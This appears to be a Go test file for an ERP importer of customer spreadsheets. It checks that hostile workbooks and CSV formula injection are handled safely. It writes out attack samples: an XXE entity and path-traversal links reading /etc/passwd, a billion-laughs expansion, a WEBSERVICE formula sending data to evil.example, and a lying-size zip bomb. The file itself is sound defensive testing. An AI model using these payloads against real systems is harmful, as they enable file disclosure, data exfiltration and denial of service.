package erp_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/binary"
	"strings"
	"testing"

	"areaclientes/store/erp"
	"areaclientes/store/storetest"
)

// bookOf is a workbook with one sheet of customers; parts replaces or adds what it is packed from.
func bookOf(t *testing.T, sheet string, parts map[string]string) string {
	t.Helper()
	const head = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`
	all := map[string]string{
		"[Content_Types].xml": head + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>`,
		"_rels/.rels":         head + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
		"xl/workbook.xml":     head + `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Clientes" sheetId="1" r:id="rId1"/></sheets></workbook>`,
		"xl/_rels/workbook.xml.rels": head + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>` +
			`<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="file:///etc/passwd" TargetMode="External"/></Relationships>`,
		"xl/worksheets/sheet1.xml": head + `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>` +
			`<row r="1"><c r="A1" t="inlineStr"><is><t>Código</t></is></c><c r="B1" t="inlineStr"><is><t>Razón social</t></is></c><c r="C1" t="inlineStr"><is><t>NIF</t></is></c></row>` + sheet + `</sheetData></worksheet>`,
		"xl/sharedStrings.xml": head + `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>UNO SL</t></si></sst>`,
	}
	for name, content := range parts {
		all[name] = content
	}
	return zipOf(t, all)
}

// row is one customer; the name is a cell of whichever kind.
func row(at, name string) string {
	return `<row r="` + at + `"><c r="A` + at + `" t="inlineStr"><is><t>00900</t></is></c>` + name + `<c r="C` + at + `" t="inlineStr"><is><t>A46103834</t></is></c></row>`
}

// Workbooks made to read our files, to call elsewhere or to fill the memory are read as what they are, or
// refused with words; nothing of ours gets into them.
func TestHostileWorkbooks(t *testing.T) {
	shared := func(index string) string { return row("2", `<c r="B2" t="s"><v>`+index+`</v></c>`) }
	const entity = `<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&x;</t></si></sst>`
	laughs := `<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "ja">` + strings.Repeat(`<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">`, 20) + `]><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&b;</t></si></sst>`
	for name, book := range map[string]string{
		"as it should be":                  bookOf(t, shared("0"), nil),
		"a string out of our files":        bookOf(t, shared("0"), map[string]string{"xl/sharedStrings.xml": entity}),
		"strings that grow":                bookOf(t, shared("0"), map[string]string{"xl/sharedStrings.xml": laughs}),
		"a string that is not there":       bookOf(t, shared("2147483647"), nil),
		"a string of a negative number":    bookOf(t, shared("-1"), nil),
		"a string that does not end":       bookOf(t, shared("0"), map[string]string{"xl/sharedStrings.xml": `<sst><si><t>`}),
		"a row beyond all rows":            bookOf(t, row("2147483647", `<c r="B2147483647"><v>1</v></c>`), nil),
		"a column beyond all columns":      bookOf(t, row("2", `<c r="ZZZZZZ2"><v>1</v></c>`), nil),
		"a range beyond all ranges":        bookOf(t, shared("0"), map[string]string{"xl/worksheets/sheet1.xml": `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/><sheetData/></worksheet>`}),
		"a formula that calls elsewhere":   bookOf(t, row("2", `<c r="B2" t="str"><f>WEBSERVICE("http://evil.example/"&amp;A1)</f><v>UNO SL</v></c>`), nil),
		"a sheet that lies somewhere else": bookOf(t, shared("0"), map[string]string{"xl/_rels/workbook.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="../../../../etc/passwd"/></Relationships>`}),
		"a link to another workbook":       bookOf(t, row("2", `<c r="B2" t="str"><f>[1]Hoja1!A1</f><v>UNO SL</v></c>`), map[string]string{"xl/externalLinks/externalLink1.xml": `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook/></externalLink>`}),
	} {
		t.Run(name, func(t *testing.T) {
			s, _ := storetest.Empty(t)
			report, err := erp.Import(context.Background(), s, []erp.Source{memory("clientes.xlsx", book)}, erp.Options{})
			if err != nil {
				t.Fatal(err)
			}
			taken := storetest.Scalar[string](t, s, "SELECT coalesce(group_concat(name), '') FROM customers")
			if strings.Contains(taken, "root:") || len(taken) > 40 {
				t.Errorf("taken in: %.200q", taken)
			}
			if taken == "" && len(report.Problems)+len(report.Rejects) == 0 {
				t.Error("neither read nor refused")
			}
			for _, problem := range report.Problems {
				if problem.Reason == "" || strings.Contains(problem.Reason, "xml:") || strings.Contains(problem.Reason, "/etc") {
					t.Errorf("said: %q", problem.Reason)
				}
			}
		})
	}
}

// A directory that promises less than the parts hold does not get them into memory.
func TestBombThatLies(t *testing.T) {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	part, err := w.CreateHeader(&zip.FileHeader{Name: "xl/workbook.xml", Method: zip.Deflate})
	if err == nil {
		_, err = part.Write(bytes.Repeat([]byte("a"), 40<<20))
	}
	if err != nil || w.Close() != nil {
		t.Fatal(err)
	}
	packed := b.Bytes()
	at := bytes.LastIndex(packed, []byte("PK\x01\x02")) // its line in the directory, sizes at 20 and 24
	binary.LittleEndian.PutUint32(packed[at+24:], 100)
	s, _ := storetest.Empty(t)
	report, err := erp.Import(context.Background(), s, []erp.Source{memory("libro.xlsx", string(packed))}, erp.Options{})
	if err != nil || len(report.Problems) != 1 || !strings.Contains(report.Problems[0].Reason, "No es un libro de Excel") {
		t.Errorf("%+v, %v", report.Problems, err)
	}
}

// Whichever program opens a list, and however it is set, no text of a customer's becomes a formula.
func TestFormulasInLists(t *testing.T) {
	for text, want := range map[string]string{
		"=1+1": "'=1+1", "+34": "'+34", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "＝1": "'＝1", "＋1": "'＋1", "－1": "'－1", "＠A": "'＠A",
		"\t=1": "'\t'=1", "\r=1": "\"'\r'=1\"", "\n=1": "\"'\n'=1\"", "\x00=1": "'\x00=1", "\ufeff=1": "'\ufeff=1", "\u200b=1": "'\u200b=1", "  =1": "'  =1", "\u00a0=1": "'\u00a0=1",
		"a;=1+1": `"a;'=1+1"`, "a,=1+1": "a,'=1+1", "a\t=1": "a\t'=1", "a\n=1": "\"a\n'=1\"", `a;"=1"`: `"a;""'=1"""`, "a; =1": `"a; '=1"`,
		"Calle Mayor, 3": "Calle Mayor, 3", "C454e": "C454e", "1-2": "1-2", "a=b": "a=b", "": "", "ana@gredos.example": "ana@gredos.example",
	} {
		var out bytes.Buffer
		sheet := erp.Sheet{Name: "L", Columns: []string{"T"}, Rows: [][]erp.Cell{{erp.Text(text)}}}
		if err := sheet.WriteCSV(&out); err != nil {
			t.Fatal(err)
		}
		if got := strings.TrimSuffix(strings.TrimPrefix(out.String(), "\ufeffT\r\n"), "\r\n"); got != want {
			t.Errorf("%q is written %q, want %q", text, got, want)
		}
	}
}
